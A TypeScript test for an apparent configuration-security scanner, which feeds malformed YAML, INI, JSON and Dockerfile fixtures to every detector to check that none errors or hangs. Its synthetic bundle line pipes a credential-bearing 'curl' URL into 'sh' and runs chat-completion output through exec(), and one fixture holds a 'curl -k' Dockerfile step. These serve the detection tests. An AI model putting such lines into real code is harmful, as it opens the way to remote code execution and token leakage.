import assert from 'node:assert/strict'
import {mkdirSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'

import {loadTrials} from '../../src/trials/registry.js'
import {scan} from '../../src/trials/runner.js'
import {CATALOG_FILES} from '../helpers/catalogs.js'
import {ROOT, tempDir} from '../helpers/cli.js'

// Every trial's detector, as the catalog lists them, must not throw or crawl on shapes real files do not usually have.
describe('every trial on odd input', () => {
  it('odd YAML shapes, empty values and very long lines: no detector error', async () => {
    const dir = tempDir('khaos-odd-input-')
    try {
      const w = (path: string, text: string) => {
        mkdirSync(join(dir.path, path, '..'), {recursive: true})
        writeFileSync(join(dir.path, path), text)
      }

      w(
        'compose.yaml',
        [
          'services:',
          '  a:',
          '  b: {image: 42, ports: [6379, {target: 6379}], command: 7, environment: [1, null, "X"], logging: "json-file", deploy: [1]}',
          '  c: {image: "${UNSET}", volumes: [{}, 3], labels: ["traefik.http.routers.x.rule"], env_file: [{path: 9}]}',
          '  d: {image: redis, command: ["--port"], ports: ["[::1]::6379"]}',
          '  e: {image: "minio/minio", command: server, environment: {MINIO_DEFAULT_BUCKETS: null}}',
          '',
        ].join('\n'),
      )
      w(
        '.github/workflows/w.yml',
        'on: null\njobs:\n  j: {steps: "nope"}\n  k: {uses: 5, steps: [null, 3, {run: 12}, {uses: null, with: "x"}, {run: "${{ github.event.issue.title"}]}\n',
      )
      w('.github/workflows/x.yml', 'on: [issues]\njobs: []\n')
      w('grafana/datasources.yaml', 'apiVersion: 1\ndatasources: [null, "x", {secureJsonData: [1, 2]}, {password: {nested: true}}]\n')
      w('prometheus.yml', 'scrape_configs: 5\nglobal: {}\nrule_files: []\n')
      w('loki.yaml', 'auth_enabled: maybe\nschema_config: {}\ncommon: {}\ncompactor: null\n')
      w('alertmanager.yml', 'route: null\nreceivers: [{slack_configs: [{api_url: 5}]}]\n')
      w('grafana.ini', '[auth.anonymous\nenabled = \n[users]\nallow_sign_up\n')
      w('redis.conf', 'protected-mode\nrequirepass\nuser\n')
      w('policy.json', '{"Statement": {"Effect": "Allow", "Principal": {"AWS": 5}, "Action": 3}}')
      w('bad.json', '{"Statement": [ "Principal"')
      w('Dockerfile', 'FROM\nARG\nENV =\nUSER\nCOPY\nRUN curl -k\nFROM --platform=$X\n')
      // A 600 KB "minified" line mixing every pattern the text detectors look for.
      const chunk =
        'x=message.content;y=openai.chat.completions.create({m:x});exec(y);curl http://a:b@c?token=' + 'A'.repeat(50) + ' | sh;new WebSocketServer({});'
      w('dist/bundle.js', `import 'ws'\n${chunk.repeat(Math.floor(600_000 / chunk.length))}\n`)
      w('scripts/long.sh', `curl ${'-x '.repeat(50_000)}https://example.org\n${'a\\\n'.repeat(20_000)}\n`)

      const trials = await loadTrials(ROOT)
      assert.equal(trials.length, CATALOG_FILES.trials.length)
      // No timing assertion (benchmarks live in bench/): mocha's timeout is the hang guard.
      const result = await scan(dir.path, trials)
      assert.deepEqual(result.errors, [])
      // The long bundle still yields findings (the detectors did run on it).
      assert.ok(result.findings.some((f) => f.file === 'dist/bundle.js'))
    } finally {
      dir.cleanup()
    }
  })
})
